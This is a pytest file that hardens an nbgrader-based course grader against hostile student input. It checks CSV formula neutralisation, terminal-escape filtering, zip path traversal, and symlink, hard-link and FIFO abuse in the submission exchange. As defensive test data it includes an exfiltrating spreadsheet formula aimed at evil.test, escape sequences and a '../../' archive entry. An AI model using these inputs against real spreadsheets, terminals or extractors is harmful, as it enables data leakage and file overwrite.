"""What leaves nbgrader is harmless for a spreadsheet and for a terminal; what comes in archives, for the disk; and the exchange."""

import csv
import logging
import os
import pwd
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from grader.lessons import COURSE_ROOT
from grader.submission import readable
from grader.transport import CarefulCollect, CarefulCsvExport, CarefulExtractor, harmless_cell

FORMULA = "=HYPERLINK(\"http://evil.test?\"&A1,\"click\")"


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "|cmd", "\r=1", "\n=1"])
def test_no_text_becomes_a_formula(text):
    assert harmless_cell(text).startswith("'")


@pytest.mark.parametrize("value, shown", [(-1.5, "-1.5"), (None, ""), ("Ada", "Ada"), ("a=b", "a=b"), ("", "")])
def test_numbers_and_plain_names_stay(value, shown):
    assert harmless_cell(value) == shown


def test_the_export_of_a_class_holds_no_formula(pupils, workers):
    pupils.hand_in("ada")
    pupils.grade_here(workers)
    with pupils.gradebook() as gradebook:
        gradebook.update_or_create_student("ada", first_name=FORMULA, last_name="@x\x1b[2J", email="a\r\n=b")
        export = CarefulCsvExport(to=str(pupils.root / "grades.csv"))
        export.export(gradebook)
    with open(pupils.root / "grades.csv", newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["student_id"] == "ada" and float(row["score"]) == 5
    assert all(text.isprintable() and text[:1] not in tuple("=+-@") for text in row.values())


@pytest.mark.parametrize("name", ["\x1b[2J\x1b]0;evil\x07", "a\nb", "\u202etxt.exe", "\x9b31m", "a\rb", "\udcff"])
def test_a_name_in_a_log_drives_no_terminal(name):
    assert readable(name).isprintable()


def test_an_archive_that_is_refused_is_told_and_the_rest_goes_on(tmp_path, caplog):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a\x1b[2J.zip").write_bytes(b"PK\x03\x04 no archive")
    with zipfile.ZipFile(tmp_path / "in" / "b.zip", "w") as archive:
        archive.writestr("../../out.txt", "x")
        archive.writestr("sub/in.txt", "x")
    extractor = CarefulExtractor()
    extractor.log = logging.getLogger("collect")
    extractor.extract(str(tmp_path / "in"), str(tmp_path / "out"))
    found = [str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*.txt")]
    assert found == ["out/b/sub/in.txt"]
    assert caplog.messages and all(message.isprintable() for message in caplog.messages)


def test_an_archive_is_of_the_student_whose_name_it_bears(tmp_path):
    lesson = "01_self_attention"
    config = "load_subconfig('nbgrader_config.py', path={!r})\nget_config().CourseDirectory.root = {!r}\n"
    (tmp_path / "nbgrader_config.py").write_text(config.format(str(COURSE_ROOT), str(tmp_path)), encoding="utf-8")
    archives = tmp_path / "downloaded" / lesson / "archive"
    archives.mkdir(parents=True)
    for student, inside in (("ada", "my-course"), ("chloe", f"downloaded/{lesson}/extracted/ada")):
        with zipfile.ZipFile(archives / f"{student}.zip", "w") as archive:
            archive.writestr(f"{inside}/{lesson}.ipynb", student)
            archive.writestr(f"{inside}/weights.safetensors", student)
            archive.writestr(f"{inside}/timestamp.txt", "2999-01-01 00:00:00 UTC")
    command = [sys.executable, "-m", "nbgrader", "zip_collect", lesson]
    subprocess.run(command, cwd=tmp_path, env=os.environ | {"PYTHONPATH": str(COURSE_ROOT)}, check=True)
    submitted = tmp_path / "submitted"
    found = {str(path.relative_to(submitted)): path.read_text() for path in submitted.rglob("*.*")}
    names = f"{lesson}.ipynb", "weights.safetensors"
    assert found == {f"{student}/{lesson}/{name}": student for student in ("ada", "chloe") for name in names}


class Exchange:
    """Where students put what they hand in; all of it belongs to who runs the tests."""

    def __init__(self, root):
        self.inbound = root / "exchange" / "transformer" / "inbound"
        self.inbound.mkdir(parents=True)
        config = Config()
        config.CourseDirectory.root, config.CourseDirectory.course_id = str(root), "transformer"
        config.CourseDirectory.db_url = f"sqlite:///{root}/gradebook.db"
        config.CourseDirectory.assignment_id = "lesson"
        config.Exchange.root = str(root / "exchange")
        self.course = CourseDirectory(config=config)
        self.config, self.submitted = config, root / "submitted"

    def put(self, student, time="2026-01-01 10:00:00.000000 UTC", more="x"):
        folder = self.inbound / f"{student}+lesson+{time}+{more}"
        folder.mkdir()
        (folder / "lesson.ipynb").write_text("{}", encoding="utf-8")
        return folder

    def collect(self):
        collector = CarefulCollect(coursedir=self.course, config=self.config)
        collector.init_src()
        collector.copy_files()
        return sorted(str(path.relative_to(self.submitted)) for path in self.submitted.rglob("*") if path.is_file())


ME = pwd.getpwuid(os.getuid()).pw_name
BROUGHT = {"submission_secret.txt", "timestamp.txt"}


@pytest.fixture
def exchange(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    return Exchange(tmp_path)


def test_a_submission_counts_for_the_account_that_owns_it(exchange):
    exchange.put(ME)
    exchange.put("ada", "2027-01-01 10:00:00.000000 UTC")
    exchange.put(ME, "2026-02-02 10:00:00.000000 UTC", "later").joinpath("answer.txt").write_text("second")
    wanted = {"lesson.ipynb", "answer.txt", *BROUGHT}
    assert exchange.collect() == sorted(f"{ME}/lesson/{name}" for name in wanted)


def test_what_is_no_submission_stops_nobody_elses(exchange, tmp_path):
    exchange.put(ME)
    (exchange.inbound / f"{ME}+lesson+tomorrow+x").mkdir()
    (exchange.inbound / "eve+lesson+").mkdir()
    (exchange.inbound / f"{ME}+lesson+2030-01-01 10:00:00 UTC+link").symlink_to(tmp_path)
    (exchange.inbound / f"{ME}+lesson+2031-01-01 10:00:00 UTC+file").write_text("no folder")
    assert exchange.collect() == sorted(f"{ME}/lesson/{name}" for name in {"lesson.ipynb", *BROUGHT})


def test_of_a_submission_only_the_students_own_regular_files_are_taken(exchange, tmp_path):
    secret = tmp_path / "gradebook.txt"
    secret.write_text("all grades")
    folder = exchange.put(ME)
    (folder / "a.ipynb").symlink_to(secret)
    (folder / "b.txt").symlink_to(secret)
    (folder / "c").symlink_to(tmp_path)
    os.link(secret, folder / "d.txt")
    os.mkfifo(folder / "e.txt")
    os.mkfifo(folder / "timestamp.txt")
    deep = folder
    for _ in range(1200):
        deep = deep / "f"
    subprocess.run(["mkdir", "-p", str(deep.relative_to(folder))], cwd=folder, check=True)
    (folder / "kept.txt").write_text("mine")
    found = exchange.collect()
    assert {f"{ME}/lesson/{name}" for name in BROUGHT} <= set(found)
    assert not any("all grades" in (exchange.submitted / path).read_text() for path in found)
    subprocess.run(["rm", "-rf", str(folder)], check=True)


@pytest.mark.skipif(os.getuid() != 0, reason="only root can give files away")
def test_a_file_of_somebody_else_is_left_out(exchange):
    folder = exchange.put(ME)
    (folder / "a.txt").write_text("of nobody")
    os.chown(folder / "a.txt", 65534, 65534)
    assert exchange.collect() == sorted(f"{ME}/lesson/{name}" for name in {"lesson.ipynb", *BROUGHT})
